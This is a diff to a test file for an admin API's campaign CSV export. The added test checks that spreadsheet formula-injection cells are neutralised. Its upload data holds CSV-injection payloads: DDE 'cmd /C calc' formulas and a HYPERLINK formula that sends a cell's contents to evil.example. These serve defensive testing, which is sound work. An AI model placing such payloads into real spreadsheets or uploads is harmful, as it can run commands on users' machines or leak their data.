@@ -1,6 +1,7 @@
 // The campaign and do-not-call routes of the admin API on a real server, its dialer driven by a
 // fast fake carrier: every route, every malformed body, row and parameter, and the lifecycle.
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { parse } from 'csv-parse/sync';
 import { startServer, type TestServer } from '../helpers/server.js';
 import { QuickCarrier } from '../outbound/quick-carrier.js';
 
@@ -465,6 +466,44 @@ describe('GET /v1/campaigns/:id/results.csv', () => {
       'not-a-number,Bad,,0,done,invalid,,,,phone is not in E.164 (+ and the country code); add a country column,,,,',
       '',
     ]);
+  });
+
+  it('neutralises every formula cell, phones written as uploaded included, and keeps E.164 phones readable', async () => {
+    // Invariant: no cell of the export is run as a formula by a spreadsheet, whichever column it is in.
+    const id = await createCampaign();
+    const upload = [
+      "phone,company,=cmd|' /C calc'!A0",
+      '"=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",x,y',
+      '@SUM(1),x,y',
+      "-2+3+cmd|' /C calc'!A0,x,y",
+      "+1+cmd|' /C calc'!A0,x,y",
+      '+12125550100,"\t=1+1"," @SUM(1)"',
+      '+12125550101,"-1+1",+44 20 7123 4567',
+    ].join('\n');
+    const added = await call('POST', `/v1/campaigns/${id}/contacts`, { body: `${upload}\n` });
+    expect(added.status).toBe(200);
+    const answer = await fetch(`${server.baseUrl}/v1/campaigns/${id}/results.csv`, {
+      headers: { authorization: `Bearer ${TOKEN}` },
+    });
+    const rows = parse(await answer.text(), { relax_column_count: true }) as string[][];
+    const cells = rows.flat();
+    const live = cells.filter((cell) => /^[\s]*[=+\-@]|^[\t\r]/.test(cell) && !/^[+-]?\d+$/.test(cell));
+    expect(live).toEqual([]);
+    expect(rows.map((row) => row[0])).toEqual([
+      'phone',
+      // An invalid phone is kept as written, cut at 40 characters.
+      '\'=HYPERLINK("http://evil.example/?x="&A1,',
+      "'@SUM(1)",
+      "'-2+3+cmd|' /C calc'!A0",
+      "'+1+cmd|' /C calc'!A0",
+      '+12125550100',
+      '+12125550101',
+    ]);
+    expect(rows[0]![2]).toBe("'=cmd|' /C calc'!A0");
+    // Variables are trimmed at upload: what remains is neutralised.
+    expect(rows[5]!.slice(1, 3)).toEqual(["'=1+1", "'@SUM(1)"]);
+    // Only a plain number passes as written: a phone with spaces is a formula to a spreadsheet.
+    expect(rows[6]!.slice(1, 3)).toEqual(["'-1+1", "'+44 20 7123 4567"]);
   });
 
   it('answers 404 for an unknown campaign', async () => {
